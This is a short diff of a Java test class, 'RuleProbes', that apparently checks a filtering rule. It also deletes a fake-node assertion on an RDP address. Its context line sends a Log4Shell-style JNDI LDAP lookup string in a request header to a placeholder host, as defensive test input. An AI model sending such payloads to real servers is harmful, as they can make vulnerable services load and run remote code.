@@ -138,7 +138,5 @@ final class RuleProbes {
             client.send(RunningExample.request("/", "X-Api: ${jndi:ldap://192.0.2.66/a}"));
             assertThat(client.rest()).isEmpty();
         }
-        FakeNode desk = weir.node("10.1.20.133:3389");
-        assertThat(desk.openConnections()).isNotNegative();
     }
 }
